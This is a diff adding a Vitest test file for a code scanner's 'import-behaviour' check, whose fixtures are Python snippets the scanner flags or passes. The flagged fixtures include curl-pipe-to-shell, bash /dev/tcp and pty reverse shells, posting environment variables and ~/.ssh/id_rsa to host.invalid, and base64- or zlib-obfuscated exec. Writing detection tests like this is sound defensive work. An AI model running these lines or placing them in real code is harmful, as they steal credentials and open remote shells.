@@ -1,0 +1,75 @@
+import { describe, expect, it } from 'vitest';
+import { codeFindings } from '../../../../test/builders/code-findings.ts';
+
+describe('checks/code/import-behaviour', () => {
+  it.each([
+    [
+      'download-and-run',
+      'import urllib.request as u\nexec(u.urlopen("https://host.invalid/x").read())',
+    ],
+    [
+      'download-and-run',
+      'import requests\ndef go(): exec(requests.get("https://host.invalid").text)\ngo()',
+    ],
+    [
+      'download-and-run',
+      'import socket\ns = socket.socket()\ns.connect(("host.invalid", 1))\nexec(s.recv(4096))',
+    ],
+    ['downloaded-code', 'import requests\ndef update(): exec(requests.get(URL).text)'],
+    ['hidden-code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
+    ['hidden-code', 'exec("".join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))'],
+    ['hidden-code', 'exec(")1(tnirp"[::-1])'],
+    [
+      'hidden-code',
+      'import zlib, base64, data\nexec(zlib.decompress(base64.b85decode(data.blob)))',
+    ],
+    ['hidden-code', 'import marshal\nexec(marshal.loads(b"x"))'],
+    [
+      'hidden-code',
+      '__import__("builtins").exec(__import__("base64").b64decode(b"cHJpbnQoMSk=").decode())',
+    ],
+    ['hidden-code-later', 'import zlib\ndef run(x): eval(zlib.decompress(x))'],
+    ['hostile-command', 'import os\nos.system("curl -s https://host.invalid/i | sh")'],
+    [
+      'hostile-command',
+      'import subprocess\nsubprocess.Popen(["bash", "-c", "bash -i >& /dev/tcp/host.invalid/1 0>&1"])',
+    ],
+    ['hostile-command', 'exec("import os; os.system(\'wget host.invalid/x -O x && chmod +x x\')")'],
+    [
+      'hostile-command-later',
+      'import os\ndef setup(): os.system("curl https://host.invalid/i | bash")',
+    ],
+    ['command-on-import', 'import subprocess\nV = subprocess.check_output(["git", "describe"])'],
+    [
+      'credentials-sent',
+      'import os, requests\nrequests.post("https://host.invalid", json=dict(os.environ))',
+    ],
+    [
+      'credentials-sent',
+      'import os, requests\ndef f():\n  k = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n  requests.post("https://host.invalid", data={"k": k})',
+    ],
+    [
+      'reverse-shell',
+      'import socket, os, pty\ns = socket.socket()\ns.connect(("host.invalid", 1))\nos.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
+    ],
+    ['network-on-import', 'import requests\nLATEST = requests.get("https://host.invalid").json()'],
+    ['persistence', 'import os\nopen(os.path.expanduser("~/.bashrc"), "a").write("x")'],
+    ['encoded-source', '# coding: utf-7\nprint(1)'],
+  ])('reports %s in %j', async (rule, text) => {
+    expect(await codeFindings(text, { check: 'import-behaviour' })).toContain(rule);
+  });
+
+  it.each([
+    'import subprocess\ndef version(): return subprocess.check_output(["git", "describe"])',
+    'import requests, os\ndef f(): return requests.get(u, headers={"Authorization": os.environ["KEY"]})',
+    'import base64\nDATA = base64.b64decode("AAAA")',
+    'import os\nx = os.environ.get("HOME")',
+    'exec(open("version.py").read())',
+    'from collections import namedtuple\nP = namedtuple("P", "x y")',
+    'import ast\nast.literal_eval("[1]")',
+    'eval("1 + 1")',
+    '# coding: latin-1\nprint(1)',
+  ])('stays silent about %j', async (text) => {
+    expect(await codeFindings(text, { check: 'import-behaviour' })).toEqual([]);
+  });
+});
